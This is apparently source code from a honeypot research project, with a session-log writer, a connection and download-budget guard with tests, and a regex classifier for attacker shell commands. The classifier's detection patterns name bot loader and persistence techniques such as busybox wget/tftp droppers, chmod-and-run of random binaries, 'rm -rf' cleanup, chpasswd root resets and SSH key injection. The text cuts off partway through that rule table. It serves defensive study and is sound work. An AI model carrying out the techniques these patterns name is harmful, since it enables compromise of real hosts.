// WriteSnapshot appends a metrics snapshot trailer line. It does not
// count toward Written (it is not a session record) but does count
// toward segment size, and a failed write increments Errors.
func (w *Writer) WriteSnapshot(s Snapshot) error {
	line, err := json.Marshal(trailerLine{Obs: &s})
	if err != nil {
		w.errs.Add(1)
		return fmt.Errorf("sessionlog: marshal snapshot: %w", err)
	}
	return w.appendLine(line)
}

// ReadSnapshots extracts the metrics-snapshot trailers from a JSONL
// stream, in order, ignoring session records and blank lines.
func ReadSnapshots(r io.Reader) ([]Snapshot, error) {
	br := bufio.NewReaderSize(r, 1<<20)
	var out []Snapshot
	for {
		line, err := br.ReadBytes('\n')
		trimmed := bytes.TrimSpace(line)
		if session.IsObsTrailer(trimmed) {
			var t trailerLine
			if uerr := json.Unmarshal(trimmed, &t); uerr != nil {
				return nil, fmt.Errorf("sessionlog: bad snapshot trailer: %w", uerr)
			}
			if t.Obs != nil {
				out = append(out, *t.Obs)
			}
		}
		if err != nil {
			if err == io.EOF {
				return out, nil
			}
			return nil, err
		}
	}
}

// rotateLocked seals the current segment as path.<n> and starts a
// fresh one. Caller holds w.mu.
func (w *Writer) rotateLocked() error {
	if err := w.bw.Flush(); err != nil {
		return err
	}
	if err := w.f.Sync(); err != nil {
		return err
	}
	if err := w.f.Close(); err != nil {
		return err
	}
	rotated := fmt.Sprintf("%s.%d", w.path, w.rotIdx)
	if err := os.Rename(w.path, rotated); err != nil {
		// Reopen the old segment so writes keep flowing even if the
		// rename failed (e.g. permissions): durability beats rotation.
		f, oerr := os.OpenFile(w.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if oerr == nil {
			w.f = f
			w.bw.Reset(f)
		}
		return err
	}
	w.rotIdx++
	w.rotations.Add(1)
	f, err := os.OpenFile(w.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	w.f = f
	w.bw.Reset(f)
	w.size = 0
	return nil
}

// Flush pushes buffered data to the OS and, for file-backed writers,
// fsyncs it to stable storage.
func (w *Writer) Flush() error {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.flushLocked()
}

func (w *Writer) flushLocked() error {
	if err := w.bw.Flush(); err != nil {
		w.errs.Add(1)
		return err
	}
	if w.f != nil {
		if err := w.f.Sync(); err != nil {
			w.errs.Add(1)
			return err
		}
	}
	w.dirty = false
	return nil
}

// Close flushes, syncs, and closes the writer. Further Writes fail.
func (w *Writer) Close() error {
	w.mu.Lock()
	if w.closed {
		w.mu.Unlock()
		return nil
	}
	w.closed = true
	err := w.flushLocked()
	if w.f != nil {
		if cerr := w.f.Close(); err == nil {
			err = cerr
		}
	}
	stop := w.stop
	w.mu.Unlock()
	if stop != nil {
		close(stop)
		<-w.done
	}
	return err
}

// syncLoop periodically flushes+fsyncs dirty data so an idle-period
// crash loses at most SyncEvery worth of sessions.
func (w *Writer) syncLoop(every time.Duration) {
	defer close(w.done)
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-w.stop:
			return
		case <-t.C:
			w.mu.Lock()
			if !w.closed && w.dirty {
				_ = w.flushLocked()
			}
			w.mu.Unlock()
		}
	}
}

// RecoverTail truncates path so it ends on a complete, valid JSON line
// — undoing a torn write from a crash mid-append. It returns the
// number of bytes dropped. A missing file is not an error.
func RecoverTail(path string) (dropped int64, err error) {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		if os.IsNotExist(err) {
			return 0, nil
		}
		return 0, err
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return 0, err
	}
	size := st.Size()
	if size == 0 {
		return 0, nil
	}
	// Scan forward, tracking the offset just past the last line that
	// both terminates with '\n' and parses as JSON.
	br := bufio.NewReaderSize(f, 1<<20)
	var good, off int64
	for {
		line, rerr := br.ReadBytes('\n')
		off += int64(len(line))
		if rerr == nil && json.Valid(bytes.TrimSuffix(line, []byte("\n"))) {
			good = off
		}
		if rerr != nil {
			break
		}
	}
	if good == size {
		return 0, nil
	}
	if err := f.Truncate(good); err != nil {
		return 0, err
	}
	return size - good, nil
}

// ParseSize parses human byte sizes for the rotation threshold:
// "256MB", "64m", "1GiB", "1048576". Empty or "0" disables rotation.
func ParseSize(s string) (int64, error) {
	t := strings.TrimSpace(strings.ToUpper(s))
	if t == "" || t == "0" {
		return 0, nil
	}
	mult := int64(1)
	for _, u := range []struct {
		suffix string
		mult   int64
	}{
		{"KIB", 1 << 10}, {"MIB", 1 << 20}, {"GIB", 1 << 30},
		{"KB", 1 << 10}, {"MB", 1 << 20}, {"GB", 1 << 30},
		{"K", 1 << 10}, {"M", 1 << 20}, {"G", 1 << 30},
		{"B", 1},
	} {
		if strings.HasSuffix(t, u.suffix) {
			t = strings.TrimSuffix(t, u.suffix)
			mult = u.mult
			break
		}
	}
	v, err := strconv.ParseInt(strings.TrimSpace(t), 10, 64)
	if err != nil || v < 0 {
		return 0, fmt.Errorf("sessionlog: bad size %q", s)
	}
	return v * mult, nil
}

// nextRotIndex returns one past the highest existing rotation suffix
// of path, so restarts never overwrite a sealed segment.
func nextRotIndex(path string) int {
	matches, err := filepath.Glob(path + ".*")
	if err != nil {
		return 1
	}
	next := 1
	for _, m := range matches {
		s := strings.TrimPrefix(m, path+".")
		if n, err := strconv.Atoi(s); err == nil && n >= next {
			next = n + 1
		}
	}
	return next
}

// Segments returns the sealed rotation segments of path, oldest first,
// followed by the live segment — the read order that reconstructs the
// full stream.
func Segments(path string) []string {
	matches, _ := filepath.Glob(path + ".*")
	type seg struct {
		n    int
		name string
	}
	var segs []seg
	for _, m := range matches {
		if n, err := strconv.Atoi(strings.TrimPrefix(m, path+".")); err == nil {
			segs = append(segs, seg{n, m})
		}
	}
	out := make([]string, 0, len(segs)+1)
	for len(segs) > 0 {
		min := 0
		for i := range segs {
			if segs[i].n < segs[min].n {
				min = i
			}
		}
		out = append(out, segs[min].name)
		segs = append(segs[:min], segs[min+1:]...)
	}
	if _, err := os.Stat(path); err == nil {
		out = append(out, path)
	}
	return out
}
