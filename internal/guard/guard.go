// Package guard implements the abuse guardrails that keep a honeypot
// node alive over a multi-year deployment: a token-bucket per-IP
// connection rate limiter, global and per-IP concurrent-connection caps
// with oldest-connection shedding, and an outbound-download budget that
// throttles the curl_maxred-style open-proxy abuse the paper documents
// (~20M curl requests relayed through the honeynet, Appendix C).
//
// The limiter never blocks: every decision is O(1) under one mutex, and
// eviction callbacks run outside the lock so a slow Close cannot stall
// the accept path.
package guard

import (
	"container/list"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
)

// maxBuckets bounds the rate-limiter's per-IP state. Beyond this the
// table is swept for refilled (idle) buckets before admitting new IPs,
// so a spoofed-source flood cannot grow memory without bound.
const maxBuckets = 65536

// Decision is the limiter's verdict on one incoming connection.
type Decision int

// Admit verdicts.
const (
	// Admitted: the connection may proceed.
	Admitted Decision = iota
	// ShedPerIP: the source IP is at its concurrent-connection cap;
	// the newcomer is shed.
	ShedPerIP
	// ShedRate: the source IP exceeded its connection rate.
	ShedRate
)

// String names the decision for logs.
func (d Decision) String() string {
	switch d {
	case Admitted:
		return "admitted"
	case ShedPerIP:
		return "shed-per-ip"
	case ShedRate:
		return "shed-rate"
	default:
		return fmt.Sprintf("decision(%d)", int(d))
	}
}

// Config parameterizes a Limiter.
type Config struct {
	// MaxConns caps concurrent connections across all IPs. When the cap
	// is reached, the OLDEST tracked connection is evicted to admit the
	// newcomer — a slow-loris fleet cannot pin every slot forever.
	// Zero means unlimited.
	MaxConns int
	// MaxConnsPerIP caps concurrent connections per source IP. At the
	// cap the NEW connection is shed (the attacker already holds its
	// fair share). Zero means unlimited.
	MaxConnsPerIP int
	// Rate is the sustained per-IP connection admission rate in
	// connections per second (see ParseRate). Zero means unlimited.
	Rate float64
	// Burst is the token-bucket depth; zero defaults to max(1, 2*Rate),
	// letting the bursty campaign waves of the paper (mdrfckr, §10)
	// land a handful of sessions before throttling kicks in.
	Burst float64
	// Now supplies time (injectable for tests); nil means time.Now.
	Now func() time.Time
}

func (c *Config) burst() float64 {
	if c.Burst > 0 {
		return c.Burst
	}
	if b := 2 * c.Rate; b > 1 {
		return b
	}
	return 1
}

// Stats is a snapshot of the limiter's shed counters.
type Stats struct {
	// ShedOldest counts connections evicted to make room under MaxConns.
	ShedOldest int64
	// ShedPerIP counts newcomers refused at the per-IP cap.
	ShedPerIP int64
	// ShedRate counts connections refused by the rate limiter.
	ShedRate int64
	// Active is the number of currently tracked connections.
	Active int64
}

// Shed returns the total number of shed connections.
func (s Stats) Shed() int64 { return s.ShedOldest + s.ShedPerIP + s.ShedRate }

// connEntry tracks one admitted connection.
type connEntry struct {
	ip       string
	evict    func()
	elem     *list.Element
	released bool
}

// bucket is one IP's token bucket.
type bucket struct {
	tokens float64
	last   time.Time
}

// Limiter enforces connection caps and rates.
type Limiter struct {
	cfg Config

	mu      sync.Mutex
	conns   *list.List // *connEntry, oldest at front
	perIP   map[string]int
	buckets map[string]*bucket

	shedOldest atomic.Int64
	shedPerIP  atomic.Int64
	shedRate   atomic.Int64
}

// NewLimiter builds a Limiter from cfg.
func NewLimiter(cfg Config) *Limiter {
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	return &Limiter{
		cfg:     cfg,
		conns:   list.New(),
		perIP:   map[string]int{},
		buckets: map[string]*bucket{},
	}
}

// Register exposes the limiter's counters on reg:
//
//	honeynet_guard_shed_total{reason="oldest"|"per_ip"|"rate"}
//	honeynet_guard_active_connections
func (l *Limiter) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_guard_shed_total",
		"Connections shed by the guard, by reason.",
		l.shedOldest.Load, obs.L("reason", "oldest"))
	reg.CounterFunc("honeynet_guard_shed_total",
		"Connections shed by the guard, by reason.",
		l.shedPerIP.Load, obs.L("reason", "per_ip"))
	reg.CounterFunc("honeynet_guard_shed_total",
		"Connections shed by the guard, by reason.",
		l.shedRate.Load, obs.L("reason", "rate"))
	reg.GaugeFunc("honeynet_guard_active_connections",
		"Connections currently tracked by the guard.",
		func() float64 {
			l.mu.Lock()
			defer l.mu.Unlock()
			return float64(l.conns.Len())
		})
}

// Stats snapshots the shed counters.
func (l *Limiter) Stats() Stats {
	l.mu.Lock()
	active := int64(l.conns.Len())
	l.mu.Unlock()
	return Stats{
		ShedOldest: l.shedOldest.Load(),
		ShedPerIP:  l.shedPerIP.Load(),
		ShedRate:   l.shedRate.Load(),
		Active:     active,
	}
}

// Admit decides whether a connection from ip may proceed. evict is
// called (outside the limiter lock) if this connection is later chosen
// as the oldest-connection victim under MaxConns pressure; it should
// close the connection. On Admitted the caller MUST call release when
// the connection ends; release is idempotent. On any shed decision
// release is nil and the caller should close the connection.
func (l *Limiter) Admit(ip string, evict func()) (release func(), d Decision) {
	l.mu.Lock()
	if l.cfg.Rate > 0 && !l.takeToken(ip) {
		l.shedRate.Add(1)
		l.mu.Unlock()
		return nil, ShedRate
	}
	if l.cfg.MaxConnsPerIP > 0 && l.perIP[ip] >= l.cfg.MaxConnsPerIP {
		l.shedPerIP.Add(1)
		l.mu.Unlock()
		return nil, ShedPerIP
	}
	var evicted []*connEntry
	if l.cfg.MaxConns > 0 {
		for l.conns.Len() >= l.cfg.MaxConns {
			e := l.conns.Front().Value.(*connEntry)
			l.unlink(e)
			evicted = append(evicted, e)
			l.shedOldest.Add(1)
		}
	}
	e := &connEntry{ip: ip, evict: evict}
	e.elem = l.conns.PushBack(e)
	l.perIP[ip]++
	l.mu.Unlock()
	for _, v := range evicted {
		if v.evict != nil {
			v.evict()
		}
	}
	return func() { l.release(e) }, Admitted
}

// release returns e's slot. Safe to call more than once.
func (l *Limiter) release(e *connEntry) {
	l.mu.Lock()
	l.unlink(e)
	l.mu.Unlock()
}

// unlink removes e from the tracking structures. Caller holds l.mu.
func (l *Limiter) unlink(e *connEntry) {
	if e.released {
		return
	}
	e.released = true
	l.conns.Remove(e.elem)
	if n := l.perIP[e.ip] - 1; n > 0 {
		l.perIP[e.ip] = n
	} else {
		delete(l.perIP, e.ip)
	}
}

// takeToken consumes one token from ip's bucket, reporting whether one
// was available. Caller holds l.mu.
func (l *Limiter) takeToken(ip string) bool {
	now := l.cfg.Now()
	b, ok := l.buckets[ip]
	if !ok {
		if len(l.buckets) >= maxBuckets {
			l.sweepBuckets()
		}
		b = &bucket{tokens: l.cfg.burst(), last: now}
		l.buckets[ip] = b
	}
	b.tokens += now.Sub(b.last).Seconds() * l.cfg.Rate
	if max := l.cfg.burst(); b.tokens > max {
		b.tokens = max
	}
	b.last = now
	if b.tokens < 1 {
		return false
	}
	b.tokens--
	return true
}

// sweepBuckets drops buckets that have refilled to capacity — an idle
// IP's bucket carries no information. Caller holds l.mu.
func (l *Limiter) sweepBuckets() {
	now := l.cfg.Now()
	max := l.cfg.burst()
	for ip, b := range l.buckets {
		if b.tokens+now.Sub(b.last).Seconds()*l.cfg.Rate >= max {
			delete(l.buckets, ip)
		}
	}
}

// ParseRate parses a human rate spec: "5/s", "300/m", "1000/h", or a
// bare number meaning per second. Empty means unlimited (0).
func ParseRate(s string) (float64, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return 0, nil
	}
	num, unit := s, ""
	if i := strings.IndexByte(s, '/'); i >= 0 {
		num, unit = s[:i], s[i+1:]
	}
	v, err := strconv.ParseFloat(num, 64)
	if err != nil || v < 0 {
		return 0, fmt.Errorf("guard: bad rate %q", s)
	}
	switch unit {
	case "", "s":
		return v, nil
	case "m":
		return v / 60, nil
	case "h":
		return v / 3600, nil
	default:
		return 0, fmt.Errorf("guard: bad rate unit %q in %q", unit, s)
	}
}

// ErrBudget is returned by a budget-wrapped fetcher once a client has
// exhausted its download allowance for the current window. The emulated
// shell surfaces it as an ordinary network error, so the abuser sees a
// flaky proxy rather than a honeypot tell.
var ErrBudget = errors.New("guard: outbound download budget exhausted")

// Budget throttles outbound downloads commanded through the emulated
// fetcher, per client IP over a sliding window.
type Budget struct {
	// MaxFetches caps fetch attempts per IP per window (0 = unlimited).
	MaxFetches int
	// MaxBytes caps fetched bytes per IP per window (0 = unlimited).
	MaxBytes int64
	// Window is the accounting window; zero means one minute.
	Window time.Duration
	// Now supplies time (injectable); nil means time.Now.
	Now func() time.Time

	mu        sync.Mutex
	perIP     map[string]*budgetWindow
	throttled atomic.Int64
}

type budgetWindow struct {
	start   time.Time
	fetches int
	bytes   int64
}

// Register exposes the budget's counter on reg:
//
//	honeynet_guard_downloads_throttled_total
func (b *Budget) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_guard_downloads_throttled_total",
		"Emulated fetches refused because the client exhausted its download budget.",
		b.Throttled)
}

// Throttled returns the number of fetches refused over budget.
func (b *Budget) Throttled() int64 {
	if b == nil {
		return 0
	}
	return b.throttled.Load()
}

func (b *Budget) window() time.Duration {
	if b.Window > 0 {
		return b.Window
	}
	return time.Minute
}

func (b *Budget) now() time.Time {
	if b.Now != nil {
		return b.Now()
	}
	return time.Now()
}

// reserve admits one fetch attempt for ip, rolling the window as needed.
func (b *Budget) reserve(ip string) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.perIP == nil {
		b.perIP = map[string]*budgetWindow{}
	}
	now := b.now()
	w := b.perIP[ip]
	if w == nil || now.Sub(w.start) >= b.window() {
		// Roll the window; opportunistically drop other stale entries so
		// the map tracks only currently-active abusers.
		if len(b.perIP) > 4096 {
			for k, v := range b.perIP {
				if now.Sub(v.start) >= b.window() {
					delete(b.perIP, k)
				}
			}
		}
		w = &budgetWindow{start: now}
		b.perIP[ip] = w
	}
	if b.MaxFetches > 0 && w.fetches >= b.MaxFetches {
		return false
	}
	if b.MaxBytes > 0 && w.bytes >= b.MaxBytes {
		return false
	}
	w.fetches++
	return true
}

// account records bytes fetched by ip.
func (b *Budget) account(ip string, n int64) {
	b.mu.Lock()
	if w := b.perIP[ip]; w != nil {
		w.bytes += n
	}
	b.mu.Unlock()
}

// Wrap returns fetch throttled by the budget for client ip. A nil
// Budget or nil fetch passes through unchanged.
func (b *Budget) Wrap(ip string, fetch func(uri string) ([]byte, error)) func(uri string) ([]byte, error) {
	if b == nil || fetch == nil {
		return fetch
	}
	return func(uri string) ([]byte, error) {
		if !b.reserve(ip) {
			b.throttled.Add(1)
			return nil, ErrBudget
		}
		data, err := fetch(uri)
		if err == nil {
			b.account(ip, int64(len(data)))
		}
		return data, err
	}
}
