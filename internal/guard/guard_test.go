package guard

import (
	"errors"
	"fmt"
	"honeynet/internal/obs"
	"sync"
	"testing"
	"time"
)

// clock is a manually advanced time source.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func newClock() *clock { return &clock{t: time.Unix(1_700_000_000, 0)} }

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

func TestPerIPCapShedsThirdConnection(t *testing.T) {
	l := NewLimiter(Config{MaxConnsPerIP: 2})
	r1, d := l.Admit("10.0.0.1", nil)
	if d != Admitted {
		t.Fatalf("conn 1: %v", d)
	}
	if _, d = l.Admit("10.0.0.1", nil); d != Admitted {
		t.Fatalf("conn 2: %v", d)
	}
	// Third concurrent connection from the same IP is shed...
	if _, d = l.Admit("10.0.0.1", nil); d != ShedPerIP {
		t.Fatalf("conn 3: got %v, want ShedPerIP", d)
	}
	// ...while a different IP still connects.
	if _, d = l.Admit("10.0.0.2", nil); d != Admitted {
		t.Fatalf("other IP: got %v, want Admitted", d)
	}
	// Releasing one slot readmits the IP.
	r1()
	if _, d = l.Admit("10.0.0.1", nil); d != Admitted {
		t.Fatalf("after release: got %v, want Admitted", d)
	}
	if got := l.Stats().ShedPerIP; got != 1 {
		t.Errorf("ShedPerIP = %d, want 1", got)
	}
}

func TestReleaseIdempotent(t *testing.T) {
	l := NewLimiter(Config{MaxConnsPerIP: 1})
	r, d := l.Admit("10.0.0.1", nil)
	if d != Admitted {
		t.Fatal(d)
	}
	r()
	r() // double release must not corrupt the per-IP count
	if _, d = l.Admit("10.0.0.1", nil); d != Admitted {
		t.Fatalf("after double release: %v", d)
	}
	if st := l.Stats(); st.Active != 1 {
		t.Errorf("Active = %d, want 1", st.Active)
	}
}

func TestGlobalCapEvictsOldest(t *testing.T) {
	l := NewLimiter(Config{MaxConns: 2})
	evicted := []string{}
	mkEvict := func(name string) func() {
		return func() { evicted = append(evicted, name) }
	}
	if _, d := l.Admit("10.0.0.1", mkEvict("a")); d != Admitted {
		t.Fatal(d)
	}
	if _, d := l.Admit("10.0.0.2", mkEvict("b")); d != Admitted {
		t.Fatal(d)
	}
	// Third connection evicts the oldest ("a"), not the newcomer: a
	// slow-loris fleet must not be able to pin every slot.
	if _, d := l.Admit("10.0.0.3", mkEvict("c")); d != Admitted {
		t.Fatal(d)
	}
	if len(evicted) != 1 || evicted[0] != "a" {
		t.Fatalf("evicted = %v, want [a]", evicted)
	}
	st := l.Stats()
	if st.ShedOldest != 1 || st.Active != 2 {
		t.Errorf("stats = %+v", st)
	}
}

func TestEvictedConnReleaseIsNoop(t *testing.T) {
	l := NewLimiter(Config{MaxConns: 1})
	r1, _ := l.Admit("10.0.0.1", func() {})
	if _, d := l.Admit("10.0.0.2", func() {}); d != Admitted {
		t.Fatal(d)
	}
	r1() // the evicted conn's deferred release fires later; must be safe
	if st := l.Stats(); st.Active != 1 {
		t.Errorf("Active = %d, want 1", st.Active)
	}
}

func TestRateLimiterTokenBucket(t *testing.T) {
	clk := newClock()
	l := NewLimiter(Config{Rate: 5, Burst: 5, Now: clk.now})
	ip := "10.0.0.1"
	for i := 0; i < 5; i++ {
		if _, d := l.Admit(ip, nil); d != Admitted {
			t.Fatalf("burst conn %d: %v", i, d)
		}
	}
	if _, d := l.Admit(ip, nil); d != ShedRate {
		t.Fatalf("over rate: got %v, want ShedRate", d)
	}
	// An unrelated IP has its own bucket.
	if _, d := l.Admit("10.0.0.2", nil); d != Admitted {
		t.Fatalf("other IP: %v", d)
	}
	// 200ms at 5/s refills one token.
	clk.advance(200 * time.Millisecond)
	if _, d := l.Admit(ip, nil); d != Admitted {
		t.Fatalf("after refill: %v", d)
	}
	if _, d := l.Admit(ip, nil); d != ShedRate {
		t.Fatalf("bucket must be empty again, got %v", d)
	}
	if got := l.Stats().ShedRate; got != 2 {
		t.Errorf("ShedRate = %d, want 2", got)
	}
}

func TestBucketSweepBoundsMemory(t *testing.T) {
	clk := newClock()
	l := NewLimiter(Config{Rate: 100, Now: clk.now})
	for i := 0; i < maxBuckets; i++ {
		l.Admit(fmt.Sprintf("10.%d.%d.%d", i>>16, (i>>8)&255, i&255), nil)
	}
	clk.advance(time.Hour) // every bucket refills
	l.Admit("192.0.2.1", nil)
	l.mu.Lock()
	n := len(l.buckets)
	l.mu.Unlock()
	if n > 2 {
		t.Errorf("buckets after sweep = %d, want <= 2", n)
	}
}

func TestParseRate(t *testing.T) {
	cases := []struct {
		in   string
		want float64
		err  bool
	}{
		{"", 0, false},
		{"5/s", 5, false},
		{"300/m", 5, false},
		{"7200/h", 2, false},
		{"2.5", 2.5, false},
		{"5/d", 0, true},
		{"x/s", 0, true},
		{"-1/s", 0, true},
	}
	for _, c := range cases {
		got, err := ParseRate(c.in)
		if (err != nil) != c.err || got != c.want {
			t.Errorf("ParseRate(%q) = %v, %v; want %v, err=%v", c.in, got, err, c.want, c.err)
		}
	}
}

func TestDownloadBudgetFetchCap(t *testing.T) {
	clk := newClock()
	b := &Budget{MaxFetches: 3, Window: time.Minute, Now: clk.now}
	fetch := b.Wrap("10.0.0.1", func(uri string) ([]byte, error) {
		return []byte("payload"), nil
	})
	for i := 0; i < 3; i++ {
		if _, err := fetch("http://evil/x"); err != nil {
			t.Fatalf("fetch %d: %v", i, err)
		}
	}
	if _, err := fetch("http://evil/x"); !errors.Is(err, ErrBudget) {
		t.Fatalf("over budget: got %v, want ErrBudget", err)
	}
	// Another client is unaffected.
	other := b.Wrap("10.0.0.2", func(uri string) ([]byte, error) { return nil, nil })
	if _, err := other("http://evil/x"); err != nil {
		t.Fatalf("other IP: %v", err)
	}
	// The window rolls over.
	clk.advance(time.Minute)
	if _, err := fetch("http://evil/x"); err != nil {
		t.Fatalf("new window: %v", err)
	}
	if got := b.Throttled(); got != 1 {
		t.Errorf("Throttled = %d, want 1", got)
	}
}

func TestDownloadBudgetByteCap(t *testing.T) {
	clk := newClock()
	b := &Budget{MaxBytes: 10, Window: time.Minute, Now: clk.now}
	fetch := b.Wrap("10.0.0.1", func(uri string) ([]byte, error) {
		return make([]byte, 8), nil
	})
	if _, err := fetch("u1"); err != nil {
		t.Fatal(err)
	}
	if _, err := fetch("u2"); err != nil { // 8 < 10: still admitted
		t.Fatal(err)
	}
	if _, err := fetch("u3"); !errors.Is(err, ErrBudget) { // 16 >= 10
		t.Fatalf("got %v, want ErrBudget", err)
	}
}

func TestNilBudgetPassthrough(t *testing.T) {
	var b *Budget
	base := func(uri string) ([]byte, error) { return []byte("x"), nil }
	if got := b.Wrap("ip", base); got == nil {
		t.Fatal("nil budget must pass fetch through")
	}
	if b.Throttled() != 0 {
		t.Fatal("nil budget Throttled must be 0")
	}
}

func TestLimiterConcurrentChurn(t *testing.T) {
	l := NewLimiter(Config{MaxConns: 32, MaxConnsPerIP: 4, Rate: 1e9})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			ip := fmt.Sprintf("10.0.0.%d", g%4)
			for i := 0; i < 500; i++ {
				if release, d := l.Admit(ip, func() {}); d == Admitted {
					release()
				}
			}
		}(g)
	}
	wg.Wait()
	if st := l.Stats(); st.Active != 0 {
		t.Errorf("Active after churn = %d, want 0", st.Active)
	}
}

func TestLimiterRegister(t *testing.T) {
	l := NewLimiter(Config{MaxConnsPerIP: 1})
	reg := obs.NewRegistry()
	l.Register(reg)
	b := &Budget{MaxFetches: 1, Window: time.Minute, Now: newClock().now}
	b.Register(reg)

	if _, d := l.Admit("10.0.0.1", nil); d != Admitted {
		t.Fatalf("conn 1: %v", d)
	}
	if _, d := l.Admit("10.0.0.1", nil); d != ShedPerIP {
		t.Fatalf("conn 2: %v", d)
	}
	fetch := b.Wrap("10.0.0.1", func(uri string) ([]byte, error) { return nil, nil })
	fetch("u1") // consumes the only budgeted fetch
	fetch("u2") // throttled

	snap := reg.Snapshot()
	for series, want := range map[string]float64{
		`honeynet_guard_shed_total{reason="per_ip"}`: 1,
		`honeynet_guard_shed_total{reason="oldest"}`: 0,
		`honeynet_guard_shed_total{reason="rate"}`:   0,
		"honeynet_guard_active_connections":          1,
		"honeynet_guard_downloads_throttled_total":   1,
	} {
		if got := snap[series]; got != want {
			t.Errorf("registry %s = %v, want %v", series, got, want)
		}
	}
}
