// Package classify implements the paper's regex-based command
// classification (section 5, Table 1 in Appendix B): 58 explicit
// behavioral-signature categories plus an "unknown" fallback, applied to
// the full command text of a session.
//
// The paper's rules use Python lookahead assertions `(?=...)` to require
// several patterns simultaneously. Go's RE2 engine has no lookaheads, so
// each rule here is a conjunction: a list of regexes that must ALL match
// (plus optional exclusions). That is exactly the lookahead semantics,
// and it is faster: most rules short-circuit on a literal substring scan.
package classify

import (
	"regexp"
	"strings"
	"sync"
	"sync/atomic"

	"honeynet/internal/obs"
	"honeynet/internal/parallel"
)

// Literal-prefilter work counters (obs instrument pattern 2: plain
// atomics bridged by Register). Every rule probe either short-circuits
// on a missing literal substring — no regex runs at all — or falls
// through to regex verification. The ratio is what justifies compiling
// the literals into the single-pass streaming matcher (internal/live):
// on real corpora the overwhelming majority of the 59 probes per
// session die in the substring scan.
var (
	litShortcircuits atomic.Int64 // probes ended by a missing literal
	litVerifies      atomic.Int64 // probes that reached regex verification
)

// Register exposes the classifier's literal-prefilter counters on reg
// (nil-safe). Call once per registry.
func Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_classify_literal_skip_total",
		"Rule probes short-circuited by the literal substring prefilter (no regex ran).",
		litShortcircuits.Load)
	reg.CounterFunc("honeynet_classify_regex_verify_total",
		"Rule probes that fell through the literal prefilter to regex verification.",
		litVerifies.Load)
}

// Unknown is the fallback category for sessions no rule matches.
const Unknown = "unknown"

// Rule is one behavioral signature.
type Rule struct {
	// Name is the category label used throughout the paper's figures.
	Name string
	// Require are regexes that must all match the session command text.
	Require []string
	// Exclude are regexes that must not match.
	Exclude []string
	// Generic marks the 14 generic loader categories (wget/curl/echo/ftp
	// combinations) that many different bots reuse; the other rules are
	// bot- or campaign-specific.
	Generic bool

	require []*regexp.Regexp
	exclude []*regexp.Regexp
	// literals are plain-substring prefilters extracted from Require:
	// if any literal is absent the rule cannot match.
	literals []string
}

// rules is the ordered signature table: specific bots first, generic
// loader combinations last (most specific combination first), mirroring
// Table 1. First match wins.
var rules = []Rule{
	// --- The dominant persistence campaign (section 9). The variant
	// (appearing 2022-12-08) additionally cleans up the WorkMiner bot.
	{Name: "mdrfckr_variant", Require: []string{`mdrfckr`, `hosts\.deny`}},
	{Name: "mdrfckr", Require: []string{`mdrfckr`}},

	// --- Scouting echoes.
	{Name: "echo_ok", Require: []string{`\\x6F\\x6B`}},
	{Name: "echo_ok_txt", Require: []string{`echo ok`}},
	{Name: "echo_ssh_check", Require: []string{`SSH check`}},
	{Name: "echo_os_check", Require: []string{`\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}`}},

	// --- uname-family scouts.
	{Name: "uname_svnrm", Require: []string{`uname\s+-s\s+-v\s+-n\s+-r\s+-m`}},
	{Name: "uname_snri_nproc", Require: []string{`nproc`, `\buname\s+-s\s+-n\s+-r\s+-i\b`}},
	{Name: "uname_svnr", Require: []string{`uname\s+-s\s+-v\s+-n\s+-r`}},
	{Name: "uname_a_nproc", Require: []string{`nproc`, `\buname\s+-a\b`}},
	{Name: "uname_a", Require: []string{`uname\s+-a`}},

	// --- busybox family.
	{Name: "bbox_scout_cat", Require: []string{`/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe`}},
	{Name: "bbox_loaderwget", Require: []string{`loader\.wget`}},
	{Name: "bbox_echo_elf", Require: []string{`\\x45\\x4c\\x46`}},
	{Name: "bbox_5_char_v2", Require: []string{`/bin/busybox\s+[a-zA-Z0-9]{5}\b`, `tftp`, `wget`}},
	{Name: "bbox_5_char", Require: []string{`/bin/busybox\s+[a-zA-Z0-9]{5}(\s|$|;)`}},
	{Name: "bbox_rand_exec", Require: []string{`/bin/busybox`, `chmod`, `\./[a-zA-Z0-9]{4,}`}},
	{Name: "bbox_unlabelled", Require: []string{`(/bin/busybox\s|busybox\s)`}},

	// --- Named campaigns and bots.
	{Name: "juicessh", Require: []string{`juicessh`}},
	{Name: "passwd123_daemon", Require: []string{`Password123`, `daemon`}},
	{Name: "pattern_7", Require: []string{`cd\s+/tmp\s*;\s*rm\s+-rf\s+/tmp/\*`, `cd\s+/var/run`}},
	{Name: "rapperbot", Require: []string{`ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA`}},
	{Name: "root_17_char_pwd", Require: []string{`root:[A-Za-z0-9]{15,}`, `chpasswd`}},
	{Name: "root_12_char_capscout", Require: []string{`root:[A-Za-z0-9]{12}`, `print\s+\$4,\s*\$5,\s*\$6`}},
	{Name: "root_12_char_echo321", Require: []string{`root:[A-Za-z0-9]{12}`, `echo\s+321`}},
	{Name: "pattern_5", Require: []string{`rm\s+-rf\s+\*`, `cd\s+/tmp`, `(x0x0x0|xoxoxo)`}},
	{Name: "curl_maxred", Require: []string{`max-redir`}},
